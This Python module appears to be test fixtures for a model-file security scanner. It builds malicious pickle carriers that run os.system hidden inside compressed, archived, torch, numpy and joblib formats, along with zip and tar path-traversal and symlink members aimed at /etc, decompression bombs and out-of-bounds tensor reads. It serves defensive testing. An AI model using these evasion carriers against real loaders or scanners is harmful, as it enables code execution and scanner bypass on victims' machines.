"""Carriers: the same call under every wrapping that a loader opens, and archives that two readers take differently."""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from streams import BARE, RUN, STOP, name, text, within

MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
STORED = text("storage") + name("torch", "FloatStorage") + text("7") + text("cpu")
PROTOCOL, SYSTEM = b"\x80\x02M\xe9\x03.", b"\x80\x02}q\x00."


def zipped(members: dict[str, bytes], *, compress: bool = False) -> bytes:
    """A well-formed zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for member, data in members.items():
            archive.writestr(zipfile.ZipInfo(member), data, archive.compression)
    return out.getvalue()


def torch_zip(data: bytes, storages: dict[str, bytes] | None = None, more: dict[str, bytes] | None = None) -> bytes:
    """As torch.save lays it out; `more` are members beside."""
    held = {f"m/data/{key}": value for key, value in (storages or {}).items()}
    beside = {f"m/{key}": value for key, value in (more or {}).items()}
    return zipped({"m/data.pkl": data, "m/byteorder": b"little", **held, "m/version": b"3\n", **beside})


def tarred(*entries: tuple[str, bytes, bytes, str]) -> bytes:
    """A tar of (name, data, type, link)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for path, data, kind, link in entries:
            info = tarfile.TarInfo(path)
            info.size, info.type, info.linkname = len(data), kind, link
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy(descr: str, data: bytes, version: int = 1, shape: str = "(1,)") -> bytes:
    """An array with any dtype."""
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(head)) + head + data


def lz4(data: bytes) -> bytes:
    """A frame of plain blocks, its header checksum as the library computes it for these flags."""
    blocks = b"".join(
        struct.pack("<I", len(piece) | 1 << 31) + piece
        for piece in (data[i : i + 65536] for i in range(0, len(data), 65536))
    )
    return b"\x04\x22\x4d\x18\x60\x40\x82" + blocks + bytes(4)


def zfile(data: bytes) -> bytes:
    """As joblib before 0.10."""
    return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)


def tensor(count: int, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, key: str = "0") -> bytes:
    """A call of `_rebuild_tensor_v2` on a storage of so many floats, without protocol and STOP."""

    def numbers(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(b"\x8a\x08" + struct.pack("<q", n) for n in values) + b"t"

    storage = (
        b"("
        + text("storage")
        + name("torch", "FloatStorage")
        + text(key)
        + text("cpu")
        + b"J"
        + struct.pack("<i", count)
        + b"tQ"
    )
    ordered = name("collections", "OrderedDict") + b")R"
    at = b"\x8a\x08" + struct.pack("<q", offset)
    return (
        name("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + at
        + numbers(size)
        + numbers(stride)
        + b"\x89"
        + ordered
        + b"tR"
    )


@functools.cache  # bombs take seconds to compress
def carriers() -> tuple[tuple[str, bytes, str, str], ...]:
    """Name, bytes, tier, how it works."""
    return (*_wrapped(), *_archives(), *_ambiguous(), *_slips(), *_scripts(), *_inner(), *_late())


def wrapper(module: str, state: bytes, behind: bytes = b"", title: str = "NumpyArrayWrapper") -> bytes:
    """A wrapper of joblib with its state, and what lies behind it."""
    return name(module, title) + b")\x81}(" + state + b"ub" + behind


def array(data: bytes, kind: str = "u1") -> bytes:
    """An array of so many bytes as joblib writes it between opcodes; of kind ``O8``, `data` is a pickle."""
    dtype = text("dtype") + name("numpy", "dtype") + text(kind) + b"\x89\x88\x87R"
    shape = text("shape") + b"J" + struct.pack("<i", len(data)) + b"\x85"
    return wrapper("joblib.numpy_pickle", dtype + shape, data)


def storage(data: bytes) -> bytes:
    """A storage of torch as plain pickle writes it: a file of torch's own, in bytes."""
    return name("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(data)) + data + b"\x85R"


def legacy_storage(count: int, body: bytes = b"") -> bytes:
    """One storage of so many floats in the order of before 1.6, as `_load_from_bytes` is given it."""
    object_ = b"\x80\x02" + (body or b"(" + STORED + b"J" + struct.pack("<i", count) + b"NtQ") + b"."
    keys = b"\x80\x02](" + text("7") + b"e."
    return MAGIC + PROTOCOL + SYSTEM + object_ + keys + struct.pack("<q", count) + bytes(4 * count)


def _late() -> list[tuple[str, bytes, str, str]]:
    """Protocol 0 is text to whoever looks at its beginning only."""
    command = name("os", "system") + b"(S'echo owned'\ntR."
    begun = {
        "numbers": b"(l" + b"F1.5\na" * 20_000 + b"0", "line": b"V" + b"a" * 3000 + b"\n0", "literal": b"S'" + b"a" * 3000 + b"'\n0", "digits": b"F1." + b"0" * 500 + b"\n0",
        "base": b"I 0x10\n0", "far": b"Np999999\n0", "length": b"T  !\x01" + b"a" * 0x01212020 + b"0",
    }  # fmt: skip
    out = [
        (f"late-{title}.bin", before + command, "core", "opcodes that look like text, and then a call")
        for title, before in begun.items()
    ]
    return [
        *out,
        ("late.pkl.gz", gzip.compress(begun["numbers"] + command, mtime=0), "core", "the same under gzip"),
        ("late.txt", begun["line"] + command, "core", "the same under the name of a text"),
    ]


def _inner() -> list[tuple[str, bytes, str, str]]:
    """Streams within streams: what one loader takes for numbers, another one runs."""
    command = name("os", "system") + b"(S'echo owned'\ntR."
    asked = text("os") + b"\x940" + text("system") + b"\x940"
    shared = (
        b"\x80\x04"
        + text("collections")
        + b"\x940"
        + text("deque")
        + b"\x940h\0h\1\x93"
        + text("echo owned")
        + b"\x85R."
    )
    return [
        ("two-readings.joblib", b"\x80\x02" + array(command) + b".", "core", "joblib steps over the array, pickle.load runs it"),
        ("two-readings.pkl", b"\x80\x02" + array(command) + b".", "core", "the same, under the name of a pickle"),
        ("two-readings-deep.joblib", zlib.compress(b"\x80\x02(" + text("x" * 99) * 999 + b"1" + array(command) + b"."), "core", "the same, late in a compressed file"),
        ("two-memos.joblib", b"\x80\x04" + asked + array(shared, "O8") + b".", "core", "an array of objects has a memo of its own for joblib, not for pickle.load"),
        ("beside.joblib", b"\x80\x02" + wrapper("joblib.numpy_pickle", text("filename") + text("../../secret.npy"), title="NDArrayWrapper") + b".", "core", "an array from a file elsewhere"),
        ("storage-bytes.pkl", b"\x80\x03" + storage(legacy_storage(4, BARE)) + b".", "core", "runs inside of a storage's bytes"),
        ("storage-early.pkl", b"\x80\x03B" + struct.pack("<I", len(RUN)) + RUN + b"q\x000" + name("torch.storage", "_load_from_bytes") + b"h\0\x85R.", "core", "bytes that stand before the name of their loader"),
        ("storage-bounds.pkl", b"\x80\x03" + name("torch._utils", "_rebuild_tensor_v2") + b"(" + storage(legacy_storage(4)) + b"K\0K\x05\x85K\x01\x85\x89" + name("collections", "OrderedDict") + b")RtR.", "core", "CVE-2026-24747: a tensor beyond the storage in the bytes"),
    ]  # fmt: skip


def _wrapped() -> list[tuple[str, bytes, str, str]]:
    wraps: dict[str, Callable[[bytes], bytes]] = {
        "gz": lambda d: gzip.compress(d, mtime=0), "bz2": bz2.compress, "xz": lzma.compress, "z": zlib.compress, "lz4": lz4,
        "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "zf": zfile,
    }  # fmt: skip
    out = [(f"wrapped.joblib.{end}", wrap(RUN), "core", f"under {end}") for end, wrap in wraps.items()]
    out += [(f"wrapped-large.pkl.{end}", wrap(b"\x80\x04C\xc8" + bytes(range(200)) + b"0" + within(RUN)[2:]), "core", f"under {end}, behind bytes")
            for end, wrap in wraps.items()]  # fmt: skip
    arrays = [("object-v1", "'|O'", 1), ("object-v2", "'|O'", 2), ("object-v3", "'|O'", 3), ("structured", "[('a', '<f4'), ('b', '|O')]", 1),
              ("structured-deep", "[('a', [('b', '|O')])]", 1)]  # fmt: skip
    out += [
        (f"{title}.npy", npy(descr, RUN, version), "core", "an array of objects") for title, descr, version in arrays
    ]
    out += [
        ("object.npz", zipped({"a.npy": npy("'|O'", RUN)}), "core", "the same in an archive"),
        ("object-deflated.npz", zipped({"a.npy": npy("'|O'", RUN)}, compress=True), "core", "the same, deflated"),
        ("second.npz", zipped({"a.npy": npy("'<f4'", bytes(4)), "b.npy": npy("'|O'", RUN)}), "core", "the second array"),
        ("pickle.npy", RUN, "core", "a pickle called an array: CVE-2025-10155"),
        ("unlisted.bin", RUN, "core", "CVE-2025-1889: an extension of no list"), ("model.pt", RUN, "core", "jgw4: a raw pickle called torch"),
        ("model.safetensors", RUN, "core", "the same called safetensors"), ("model.txt", RUN, "core", "the same called text"),
        ("config.json", RUN, "core", "the same called settings"),
    ]  # fmt: skip
    return out


def _archives() -> list[tuple[str, bytes, str, str]]:
    twice = zipped({"inner.zip": zipped({"model.pkl": RUN})})
    old = MAGIC + PROTOCOL + SYSTEM
    return [
        ("plain.pt", torch_zip(RUN), "core", "torch in a zip"), ("deep.pt", torch_zip(within(RUN)), "core", "between weights"),
        ("other-name.pt", zipped({"x/y.pkl": RUN, "x/version": b"3\n"}), "core", "a member that scanners do not list"),
        ("no-extension.pt", zipped({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/weights": RUN}), "core", "a pickle without an extension"),
        ("legacy-object.pth", old + RUN + b"\x80\x02].", "core", "the fourth pickle of a legacy file"),
        ("legacy-magic.pth", RUN + PROTOCOL + SYSTEM + b"\x80\x02}." + b"\x80\x02].", "core", "97f8: in place of the magic number"),
        ("legacy-system.pth", MAGIC + PROTOCOL + RUN + b"\x80\x02}." + b"\x80\x02].", "core", "in place of the system's facts"),
        ("legacy-keys.pth", old + b"\x80\x02}." + RUN, "core", "in place of the keys"),
        ("legacy-tail.pth", old + b"\x80\x02}." + b"\x80\x02]." + RUN, "core", "behind everything"),
        ("archive.zip", zipped({"model.pkl": RUN}), "core", "an archive with a pickle"), ("twice.zip", twice, "core", "an archive in an archive"),
        ("archive-deflated.zip", zipped({"a/b/model.pkl": RUN}, compress=True), "core", "deflated"),
        ("archive.tar", tarred(("model.pkl", RUN, b"0", "")), "core", "a tar with a pickle"),
        ("archive.tar.gz", gzip.compress(tarred(("model.pkl", RUN, b"0", "")), mtime=0), "core", "compressed"),
        ("torch.tar", tarred(("sys_info", b"\x80\x02}.", b"0", ""), ("pickle", RUN, b"0", ""), ("tensors", b"\x80\x02K\x00.", b"0", "")), "core", "torch of 2016"),
        ("npz-in.zip", zipped({"a.npz": zipped({"a.npy": npy("'|O'", RUN)})}), "core", "arrays of objects in an archive"),
        ("gz-in.zip", zipped({"a.pkl.gz": gzip.compress(RUN, mtime=0)}), "core", "compressed within"),
    ]  # fmt: skip


def _ambiguous() -> list[tuple[str, bytes, str, str]]:
    good, evil = torch_zip(b"\x80\x02}."), torch_zip(RUN)
    central = evil.index(b"PK\x01\x02")
    end = evil.rindex(b"PK\x05\x06")

    def patched(at: int, new: bytes, data: bytes = evil) -> bytes:
        return data[:at] + new + data[at + len(new) :]

    double = io.BytesIO()
    with zipfile.ZipFile(double, "w") as archive:
        for data in (b"\x80\x02}.", RUN):
            archive.writestr(zipfile.ZipInfo("m/data.pkl"), data)
    ended = evil[end:]
    return [
        ("flag-local.pt", patched(6, b"\x01"), "core", "w8jq: encrypted, says the local header"),
        ("flag-central.pt", patched(central + 8, b"\x01"), "core", "encrypted, says the directory"),
        ("name-local.pt", patched(30, b"m/dat_.pkl"), "core", "7q5r: two names for one member"),
        ("crc.pt", patched(14, b"\0\0\0\0"), "core", "CVE-2025-10156: a checksum that is wrong"),
        ("crc-both.pt", patched(central + 16, b"\0\0\0\0", patched(14, b"\0\0\0\0")), "core", "wrong in both places"),
        ("size-local.pt", patched(22, b"\x01\0\0\0"), "core", "a size that the directory does not have"),
        ("method.pt", patched(central + 10, b"\x63\0"), "core", "a compression nobody has"),
        ("duplicate.pt", double.getvalue(), "core", "two members of one name"),
        ("prefix-text.pt", b"hello" * 20 + evil, "core", "text before the archive"),
        ("prefix-pickle.pt", b"\x80\x02}." + evil, "core", "a harmless pickle before the archive"),
        ("pickle-then-zip.pkl", RUN + good, "core", "a pickle before a harmless archive"),
        ("comment.pt", evil[:-2] + struct.pack("<H", 40) + b"PK\x05\x06" + bytes(36), "core", "an end record in the comment"),
        ("two-ends.pt", evil + good, "core", "two archives, one behind the other"),
        ("end-twice.pt", evil + ended, "core", "two end records"), ("tail.pt", evil + b"\0" * 30, "core", "bytes behind the end"),
        ("gap.pt", evil[:central] + b"\0" * 8 + patched(end + 16, struct.pack("<I", central + 8))[central:], "core", "bytes before the directory"),
        ("truncated.pt", evil[:-30], "core", "no end record; local headers are still read"),
        ("tar-then-more.tar", tarred(("a", b"x", b"0", "")) + RUN, "core", "a pickle behind a tar"),
        ("npy-tail.npy", npy("'<f4'", bytes(4)) + RUN, "core", "a pickle behind an array"),
        ("gz-tail.pkl.gz", gzip.compress(b"\x80\x02N.", mtime=0) + gzip.compress(RUN, mtime=0), "core", "a second compressed stream"),
    ]  # fmt: skip


def _slips() -> list[tuple[str, bytes, str, str]]:
    bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"".join(bomb.compress(bytes(1 << 20)) for _ in range(96)) + bomb.flush()
    link = zipfile.ZipInfo("a")
    link.external_attr = 0o120777 << 16
    linked = io.BytesIO()
    with zipfile.ZipFile(linked, "w") as archive:
        archive.writestr(link, "../../etc")
        archive.writestr(zipfile.ZipInfo("a/passwd"), "x")
    names = {"parent": "../../x.npy", "absolute": "/etc/x.npy", "drive": "C:x.npy", "backslash": "..\\x.npy", "device": "a/NUL.npy",
             "dots": "a/../../x.npy", "stream": "x.npy:y", "trailing": "a./x.npy"}  # fmt: skip
    array = npy("'<f4'", bytes(4))
    out = [
        (f"slip-{title}.zip", zipped({path: array}), "core", f"a member called {path}") for title, path in names.items()
    ]
    out += [
        (f"slip-{title}.tar", tarred((path, array, b"0", "")), "core", f"a tar member called {path}")
        for title, path in names.items()
    ]
    return [
        *out, ("link.zip", linked.getvalue(), "core", "a link, then a file through it"),
        ("link.tar", tarred(("a", b"", b"2", "/etc"), ("a/b", b"x", b"0", "")), "core", "a symbolic link"),
        ("hardlink.tar", tarred(("a", b"", b"1", "/etc/passwd")), "core", "a hard link"), ("device.tar", tarred(("a", b"", b"3", "")), "core", "a device"),
        ("fifo.tar", tarred(("a", b"", b"6", "")), "core", "a pipe"), ("bomb.pkl.gz", zeros, "bomb", "zeros without end"),
        ("bomb.npz", zipped({"a.npy": npy("'|u1'", bytes(1 << 26), shape="(67108864,)")}, compress=True), "bomb", "64 MB from 64 KB"),
        ("bomb.pt", zipped({"m/data.pkl": b"\x80\x04B\xff\xff\xff\x03" + bytes((64 << 20) - 1) + b".", "m/version": b"3\n"}, compress=True), "bomb", "the same as torch"),
        ("storage-missing.pt", torch_zip(b"\x80\x02" + tensor(4, (4,), (1,)) + STOP), "core", "a storage that is not there"),
        ("storage-short.pt", torch_zip(b"\x80\x02" + tensor(4, (4,), (1,)) + STOP, {"0": bytes(8)}), "core", "a storage of half its size"),
        ("tensor-outside.pt", torch_zip(b"\x80\x02" + tensor(4, (1 << 40,), (1,)) + STOP, {"0": bytes(16)}), "core", "CVE-2026-24747: reads past its storage"),
        ("tensor-stride.pt", torch_zip(b"\x80\x02" + tensor(4, (2, 2), (1 << 62, 1)) + STOP, {"0": bytes(16)}), "core", "by its stride"),
        ("tensor-offset.pt", torch_zip(b"\x80\x02" + tensor(4, (4,), (1,), 1) + STOP, {"0": bytes(16)}), "core", "by its offset"),
        ("tensor-negative.pt", torch_zip(b"\x80\x02" + tensor(4, (4,), (-1,), 0) + STOP, {"0": bytes(16)}), "core", "by going backwards"),
    ]  # fmt: skip


def _scripts() -> list[tuple[str, bytes, str, str]]:
    def script(body: str) -> bytes:
        code = f"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n{body}\n    return x\n"
        data = b"\x80\x02c__torch__\nM\n)\x81}b."
        return torch_zip(data, None, {"constants.pkl": b"\x80\x02).", "code/__torch__.py": code.encode()})

    made = {
        "save": '    torch.save(x, "/tmp/x")', "from-file": '    y = torch.from_file("/etc/passwd", False, 10)', "ops-save": '    ops.aten.save(x, "/tmp/x")',
        "method-save": '    (x).save("/tmp/x")', "python": "    ops.prim.PythonOp(x)", "rpc": '    ops.prim.rpc_async("w", "f", (x,), {})', "rpc-sync": '    ops.prim.rpc_sync("w", "f", (x,), {})',
        "rpc-remote": '    ops.prim.rpc_remote("w", "f", (x,), {})', "ignored-python": "    ops.prim.IgnoredPythonOp(x)", "method-from-file": '    (x).from_file("/etc/passwd")',
        "alias": '    f = torch.save\n    f(x, "/tmp/x")', "in-branch": '    if bool(x):\n      torch.save(x, "/tmp/x")\n    else:\n      pass',
    }  # fmt: skip
    out = [
        (f"script-{title}.pt", script(body), "core", "CVE-2025-32434: " + body.strip().splitlines()[0])
        for title, body in made.items()
    ]
    beside = {"constants.pkl": b"\x80\x02).", "extra/hook.pkl": RUN}
    return [*out, ("script-beside.pt", torch_zip(b"\x80\x02}.", None, beside), "core", "in a member that TorchScript leaves to whoever asks for it"),
            ("script-outside.pt", zipped({"m/data.pkl": b"\x80\x02}.", "m/constants.pkl": b"\x80\x02).", "m/version": b"3\n", "n/hook.pkl": RUN}), "core", "in another folder of the archive"),
            ("script-constants.pt", torch_zip(b"\x80\x02}.", None, {"constants.pkl": RUN}), "core", "in the constants"),
            ("script-debug.pt", torch_zip(b"\x80\x02}.", None, {"constants.pkl": b"\x80\x02).", "code/__torch__.py.debug_pkl": RUN}), "core", "in the debug file")]  # fmt: skip
